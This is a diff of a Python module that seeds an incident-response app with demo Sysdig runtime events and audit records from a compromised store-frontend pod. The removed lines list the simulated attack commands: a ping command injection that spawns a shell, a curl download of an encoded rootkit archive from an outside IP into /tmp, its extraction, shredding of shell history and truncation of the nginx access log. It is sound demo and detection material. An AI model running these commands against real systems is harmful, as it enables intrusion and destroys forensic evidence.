@@ -1,181 +1,176 @@
 """Demo data of the Sysdig slice: what Sysdig Secure saw in the compromised store-frontend pod
-of the main demo incident — three runtime policy events and the activity-audit commands around
-them — stored through the ingestion service and attached to the incident, so its timeline
-(``/incidents/<number>/timeline/``) tells the story. Called once by ``load_demo``."""
+of the main demo incident — the activity-audit record of every command of the attack and three
+runtime policy events — stored through the ingestion service and attached to the incident, so
+its timeline (``/incidents/<number>/timeline/``) tells the story. Every record and event carries
+the nanosecond of the system call it reports, the same as Falco's alerts and the capture
+(``incidents.demo_attack``). The shell-history event is the one whose policy ("Suspicious
+Filesystem Changes", as in the seed presentation) took the 20-second capture. Called once by
+``load_demo``."""
 
 from __future__ import annotations
 
-from datetime import datetime, timedelta
+from datetime import datetime
 
-from . import demo_detections, falco
+from . import demo_attack, falco
 from .ingest import candidate_attach, detections_group, sysdig_store
 from .models import CandidateStatus, IncidentCandidate
 
 # The same pod, container and node as the Falco alerts of ``demo_detections``.
-CONTAINER = demo_detections.PING_PHP["container.id"]
-POD = demo_detections.PING_PHP["k8s.pod.name"]
-HOST = demo_detections.NODE
+CONTAINER = demo_attack.CONTAINER_ID
+POD = demo_attack.POD
+HOST = demo_attack.NODE
 LABELS = {
     "host.hostName": HOST,
-    "container.image.repo": "registry.demo.example.gov/store/store-frontend-ping-php",
-    "container.image.tag": "1.4.2",
+    "container.image.repo": demo_attack.IMAGE_REPO,
+    "container.image.tag": demo_attack.IMAGE_TAG,
     "kubernetes.cluster.name": "demo-prod",
-    "kubernetes.namespace.name": "store",
+    "kubernetes.namespace.name": demo_attack.NAMESPACE,
     "kubernetes.pod.name": POD,
 }
-# (seconds after the first command, pid, ppid, comm, pcomm, command line)
-COMMANDS = (
-    (0, 31201, 30877, "sh", "php-fpm", "sh -c ping -c 1 127.0.0.1; sh"),
-    (1, 31202, 31201, "ping", "sh", "ping -c 1 127.0.0.1"),
-    (2, 31203, 31201, "sh", "sh", "sh"),
-    (9, 31210, 31203, "id", "sh", "id"),
-    (
-        21,
-        31214,
-        31203,
-        "curl",
-        "sh",
-        "curl -s http://198.51.100.23/kit/rk.tar.gz.b64 -o /tmp/.x",
-    ),
-    (34, 31220, 31203, "base64", "sh", "base64 -d /tmp/.x"),
-    (35, 31221, 31203, "tar", "sh", "tar xzf - -C /tmp"),
-    (58, 31230, 31203, "shred", "sh", "shred -f /var/www/.bash_history"),
-    (61, 31232, 31203, "truncate", "sh", "truncate -s 0 /var/log/nginx/access.log"),
-)
-# (seconds after the first command, rule, severity, tags, pid, command line, file)
+SHELL_TAGS = ["maturity_stable", "container", "shell", "mitre_execution", "T1059"]
+HISTORY_TAGS = [
+    "maturity_incubating",
+    "host",
+    "container",
+    "process",
+    "filesystem",
+    "mitre_defense_evasion",
+    "T1070",
+]
+LOG_TAGS = [
+    "maturity_stable",
+    "host",
+    "container",
+    "filesystem",
+    "mitre_defense_evasion",
+    "T1070",
+    "NIST_800-53_AU-10",
+]
+_S = demo_attack.STEP
+CAPTURE = {
+    "type": "POLICY_ACTION_CAPTURE",
+    "successful": True,
+    "token": "7c1f0d9a-demo-capture-store-frontend",
+    "beforeEventNs": int(demo_attack.CAPTURE_BEFORE.total_seconds() * 1e9),
+    "afterEventNs": int(demo_attack.CAPTURE_AFTER.total_seconds() * 1e9),
+}
+# (ns after the first command, policy, rule, severity, tags, step, file, actions)
 EVENTS = (
     (
-        2,
+        _S["bash"].offset_ns,
+        "Terminal shell in container",
         "Terminal shell in container",
         5,
-        ["maturity_stable", "container", "shell", "mitre_execution", "T1059"],
-        31203,
-        "sh",
+        SHELL_TAGS,
+        _S["bash"],
         "",
+        [],
     ),
     (
-        58,
-        "Delete or rename shell history",
-        4,
-        [
-            "maturity_incubating",
-            "host",
-            "container",
-            "process",
-            "filesystem",
-            "mitre_defense_evasion",
-            "T1070",
-        ],
-        31230,
-        "shred -f /var/www/.bash_history",
-        "/var/www/.bash_history",
-    ),
-    (
-        61,
+        demo_attack.SHRED_OPEN_NS,
+        "Suspicious Filesystem Changes",
         "Clear Log Activities",
         4,
-        [
-            "maturity_stable",
-            "host",
-            "container",
-            "filesystem",
-            "mitre_defense_evasion",
-            "T1070",
-            "NIST_800-53_AU-10",
-        ],
-        31232,
-        "truncate -s 0 /var/log/nginx/access.log",
-        "/var/log/nginx/access.log",
+        LOG_TAGS,
+        _S["shred"],
+        demo_attack.HISTORY,
+        [],
+    ),
+    (
+        demo_attack.SHRED_UNLINK_NS,
+        "Suspicious Filesystem Changes",
+        "Delete or rename shell history",
+        4,
+        HISTORY_TAGS,
+        _S["shred"],
+        demo_attack.HISTORY,
+        [CAPTURE],
     ),
 )
 
 
-def _ns(when: datetime, seconds: int, extra: int) -> int:
-    base = when + timedelta(seconds=seconds)
-    epoch = base - falco.time_from_ns(0)
-    return (epoch.days * 86_400 + epoch.seconds) * 1_000_000_000 + epoch.microseconds * 1000 + extra
-
-
-def load(*, agency, incident, ctx, started: datetime, attached: datetime) -> int:
-    """Store the demo's Sysdig items for ``agency`` (commands from ``started``), group them and
-    attach the candidate to ``incident`` at ``attached``; returns how many items were stored."""
-    items = []
-    for n, (seconds, pid, ppid, comm, pcomm, cmdline) in enumerate(COMMANDS):
-        items.append(
+def items(now: datetime) -> list[dict]:
+    """Sysdig's items about the attack, as its API hands them over (relative to ``now``)."""
+    start = demo_attack.start_ns(now)
+    found = []
+    for n, step in enumerate(demo_attack.STEPS):
+        found.append(
             {
                 "id": f"demo-cmd-{n}",
                 "type": "command",
-                "timestamp": _ns(started, seconds, 118_000_417 + n),
+                "timestamp": start + step.offset_ns,
                 "containerId": CONTAINER,
-                "cmdline": cmdline,
-                "comm": comm,
-                "pcomm": pcomm,
-                "pid": pid,
-                "ppid": ppid,
-                "uid": 33,
-                "username": "www-data",
-                "cwd": "/var/www/html",
+                "cmdline": step.cmdline,
+                "comm": step.comm,
+                "pcomm": step.parent,
+                "pid": step.pid,
+                "ppid": step.ppid,
+                "uid": demo_attack.UID,
+                "username": demo_attack.USER,
+                "cwd": demo_attack.CWD,
                 "hostname": HOST,
-                "tty": 0,
+                "tty": demo_attack.TTY,
                 "labels": LABELS,
             }
         )
-    for n, (seconds, rule, severity, tags, pid, cmdline, path) in enumerate(EVENTS):
+    for n, (offset, policy, rule, severity, tags, step, path, actions) in enumerate(EVENTS):
         fields = {
             "container.id": CONTAINER,
-            "proc.pid": pid,
-            "proc.cmdline": cmdline,
-            "proc.pname": "sh",
-            "user.name": "www-data",
+            "proc.pid": step.pid,
+            "proc.cmdline": step.cmdline,
+            "proc.pname": step.parent,
+            "user.name": demo_attack.USER,
         }
         if path:
             fields["fd.name"] = path
-        items.append(
+        found.append(
             {
                 "id": f"demo-event-{n}",
-                "timestamp": _ns(started, seconds, 118_250_903 + n),
-                "name": "Demo runtime policy: store tampering",
+                "timestamp": start + offset,
+                "name": policy,
                 "severity": severity,
                 "containerId": CONTAINER,
                 "content": {
                     "ruleName": rule,
                     "ruleTags": tags,
-                    "output": f"{rule} (user=www-data command={cmdline})",
+                    "output": f"{rule} (user={demo_attack.USER} command={step.cmdline})",
                     "fields": fields,
                 },
                 "labels": LABELS,
-                "actions": [
-                    {
-                        "type": "POLICY_ACTION_CAPTURE",
-                        "successful": True,
-                        "beforeEventNs": 5_000_000_000,
-                        "afterEventNs": 15_000_000_000,
-                    }
-                ],
+                "actions": actions,
             }
         )
+    return found
+
+
+def load(*, agency, incident, ctx, now: datetime, attached: datetime) -> int:
+    """Store the demo's Sysdig items for ``agency`` (the attack relative to ``now``), group
+    them and attach the candidate to ``incident`` at ``attached``; returns how many items were
+    stored."""
     result = sysdig_store(
         agency=agency,
-        items=[falco.Item(index=i, value=v) for i, v in enumerate(items)],
+        items=[falco.Item(index=i, value=v) for i, v in enumerate(items(now))],
         now=attached,
     )
     detections_group(agency_id=agency.pk, now=attached)
     # The Falco alerts' candidate of the same pod is attached already: Sysdig's events, reported
     # later, form a new open one.
     candidate = IncidentCandidate.objects.get(
-        agency=agency, group_key=f"pod:store/{POD}", status=CandidateStatus.OPEN
+        agency=agency,
+        group_key=f"pod:{demo_attack.NAMESPACE}/{POD}",
+        status=CandidateStatus.OPEN,
     )
     candidate_attach(ctx=ctx, candidate=candidate, incident=incident, now=attached)
     return result.accepted
 
 
 def load_into(scenario, incident) -> int:
-    """``load`` for the ``load_demo`` scenario: the commands start two minutes before the main
-    incident's first detection; the ISSO attaches the candidate after starting triage."""
+    """``load`` for the ``load_demo`` scenario; the ISSO attaches the candidate after starting
+    triage."""
     return load(
         agency=scenario.demo,
         incident=incident,
         ctx=scenario.ctx["isso"],
-        started=scenario.ago(hours=6, minutes=6),
+        now=scenario.now,
         attached=scenario.ago(hours=5, minutes=46),
     )
